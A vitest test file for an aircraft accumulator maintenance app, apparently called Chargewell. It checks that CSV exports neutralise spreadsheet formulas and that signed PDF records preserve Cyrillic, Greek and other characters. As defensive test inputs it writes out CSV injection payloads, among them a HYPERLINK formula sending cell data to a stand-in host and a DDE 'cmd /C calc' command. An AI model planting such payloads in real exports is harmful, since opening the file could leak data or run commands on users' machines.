/**
 * Exports an auditor can open safely and PDFs that keep every character. Formula-leading cells
 * are neutralised in every CSV export (OWASP, "CSV Injection": prefix = + - @ tab and CR with an
 * apostrophe); a signed record's PDF, read back with pdftotext, holds what was typed, and says so
 * where a character cannot be drawn.
 */
import { execFileSync } from 'node:child_process'
import { mkdtempSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import Papa from 'papaparse'
import { beforeAll, describe, expect, it } from 'vitest'
import { api, DEMO, DEMO_PASSWORD, signIn } from '../support/api'
import { baseURL } from '../support/file-server'
import { fillWorksheet, GAS_TEMPERATURE, unitAt } from '../support/worksheet-flow'

const FORMULA = '=HYPERLINK("http://x/?"&A1,"x")'
const cookies: Record<string, string> = {}
beforeAll(async () => {
  for (const [role, email] of Object.entries(DEMO)) cookies[role] = await signIn(email)
})

async function download(path: string, cookie: string) {
  const response = await fetch(`${baseURL()}${path}`, { headers: { cookie } })
  expect(response.status, path).toBe(200)
  return response
}

async function csvCells(path: string): Promise<string[]> {
  const text = await (await download(path, cookies.admin!)).text()
  return Papa.parse<string[]>(text, { skipEmptyLines: true }).data.flat()
}

/** No cell a spreadsheet would run; the guarded value still reads in full. */
function expectNeutralised(cells: string[], value: string) {
  expect(cells.filter(cell => /^[=+\-@\t\r]/.test(cell) && Number.isNaN(Number(cell)))).toEqual([])
  expect(cells).toContain(`'${value}`)
}

describe('CSV exports neutralise formulas', () => {
  it('aircraft (base, registration-adjacent fields) and its import reads the value back unguarded', async () => {
    // A station whose name a spreadsheet would run as a formula, for aircraft to name as their base.
    const station = { name: FORMULA, code: 'FRM', timeZone: 'UTC', elevation: { value: 0, unit: 'ft' } }
    expect((await api('/api/admin/stations', { cookie: cookies.admin, body: station })).status).toBe(201)
    expect((await api('/api/aircraft', { cookie: cookies.admin, body: { registration: 'QX-FXA', fleetNumber: '+901', type: 'Tarnwing 46', base: FORMULA } })).status).toBe(201)
    const cells = await csvCells('/api/aircraft/export')
    expectNeutralised(cells, FORMULA)
    expect(cells).toContain('\'+901')
    const reimported = await fetch(`${baseURL()}/api/aircraft/import`, {
      method: 'POST', headers: { 'content-type': 'text/csv', 'cookie': cookies.admin! },
      body: `registration,fleetNumber,type,base,active\r\nQX-FXB,902,Tarnwing 46,"'${FORMULA.replaceAll('"', '""')}",true\r\n`,
    })
    expect(reimported.status).toBe(200)
    const stored = (await api('/api/aircraft?q=QX-FXB', { cookie: cookies.admin })).body.items[0]
    expect(stored.base).toBe(FORMULA)
  })

  it('worksheets (work order)', async () => {
    const unit = await unitAt(cookies.technician!, 'QX-FMA', /Main hydraulic/)
    expect((await api('/api/worksheets', { cookie: cookies.technician, body: { accumulatorId: unit.id, workOrder: FORMULA, reason: 'defect' } })).status).toBe(201)
    expectNeutralised(await csvCells('/api/worksheets/export'), FORMULA)
  })

  it('tools (description), accumulators (serial and position), specifications (title)', async () => {
    expect((await api('/api/tools', { cookie: cookies.admin, body: { kind: 'cart', assetNumber: 'NC-90', description: '@SUM(1+1)*cmd' } })).status).toBe(201)
    expectNeutralised(await csvCells('/api/tools/export'), '@SUM(1+1)*cmd')
    expect((await api('/api/accumulators', { cookie: cookies.admin, body: { partNumber: 'FA-2210-03', serialNumber: '-2+3+cmd|calc', system: '\tTab system' } })).status).toBe(201)
    expectNeutralised(await csvCells('/api/accumulators/export'), '-2+3+cmd|calc')
    const specification = {
      partNumber: 'FX-CSV-1', revision: 'A', title: '=1+1 accumulator', accumulatorType: 'piston', gasVolume: 100, gasVolumeUnit: 'in3', pressureUnit: 'psi',
      pressureBasis: 'gauge', referencePressure: 1200, referenceTemperature: 21, referenceTemperatureUnit: 'C', toleranceMinus: 50, tolerancePlus: 50,
      toleranceUnit: 'psi', correctionMethod: 'gas-law', gasModel: 'real', maxPressure: 3000, minPressure: 1500, settleMinutes: 10, dataReference: 'X SMM', dataRevision: 'Rev 1',
    }
    expect((await api('/api/specifications', { cookie: cookies.engineer, body: specification })).status).toBe(201)
    expectNeutralised(await csvCells('/api/specifications/export'), '=1+1 accumulator')
  })

  it('studies (condition label); figures stay numbers, negative ones included', async () => {
    const study = {
      name: 'CSV check', accumulatorType: 'bladder', gasVolume: { value: 60, unit: 'in3' }, precharge: { value: 1000, unit: 'psi', basis: 'gauge' },
      prechargeTemperature: { value: 21, unit: 'C' }, maxPressure: { value: 3000, unit: 'psi', basis: 'gauge' }, minPressure: { value: 1500, unit: 'psi', basis: 'gauge' },
      charge: 'isothermal', discharge: 'adiabatic', model: 'real', envelope: [{ label: '=cmd|\' /C calc\'!A0', temperature: { value: -40, unit: 'C' } }],
    }
    const created = await api('/api/studies', { cookie: cookies.engineer, body: study })
    expect(created.status).toBe(201)
    const text = await (await download(`/api/studies/${created.body.id}/csv`, cookies.engineer!)).text()
    const [header, row] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data
    expect(row![header!.indexOf('Condition')]).toBe('\'=cmd|\' /C calc\'!A0')
    expect(row![header!.indexOf('Temperature')]).toBe('-40')
  })
})

describe('PDF records keep every character', () => {
  it('a remark in Cyrillic, Greek and Latin extended round-trips through the PDF; an undrawable one is marked, not dropped', async () => {
    const unit = await unitAt(cookies.technician!, 'QX-FMK', /System 1/)
    const flow = await fillWorksheet(cookies.technician!, unit.id)
    await flow.step({ step: 'asLeft', reading: flow.reading, gasTemperature: GAS_TEMPERATURE })
    const remark = 'Проверено ВР-Ωğ-ß, Đuro Šimić — ≤ 5 °C → OK 漢'
    await flow.step({ step: 'finish', valveLeakCheck: true, capFitted: true, remarks: remark })
    expect((await api(`/api/worksheets/${flow.id}/sign`, { cookie: cookies.technician, body: { password: DEMO_PASSWORD, certify: true } })).status).toBe(200)
    expect((await api(`/api/worksheets/${flow.id}/countersign`, { cookie: cookies.inspector, body: { password: DEMO_PASSWORD, certify: true } })).status).toBe(200)
    const pdf = Buffer.from(await (await download(`/api/worksheets/${flow.id}/pdf`, cookies.engineer!)).arrayBuffer())
    const file = join(mkdtempSync(join(tmpdir(), 'chargewell-pdf-')), 'record.pdf')
    writeFileSync(file, pdf)
    const text = execFileSync('pdftotext', [file, '-'], { encoding: 'utf8' }).replace(/\s+/g, ' ')
    expect(text).toContain('ВР-Ωğ-ß')
    expect(text).toContain('Проверено ВР-Ωğ-ß, Đuro Šimić — ≤ 5 °C → OK')
    expect(text).toContain('[U+6F22]')
    expect(text).toMatch(/could not be drawn with the fonts Chargewell ships/)
    expect(text).not.toMatch(/\?\?-\?\?/)
    // The fonts are embedded, not referenced; and only as subsets (DejaVu Sans alone is 740 kB whole).
    const fonts = execFileSync('pdffonts', [file], { encoding: 'utf8' }).split('\n').slice(2).filter(Boolean)
    expect(fonts.join('\n')).toMatch(/SourceSans3/)
    expect(fonts.filter(line => !/Identity-H\s+yes/.test(line))).toEqual([])
    expect(pdf.length).toBeLessThan(250_000)
  })
})
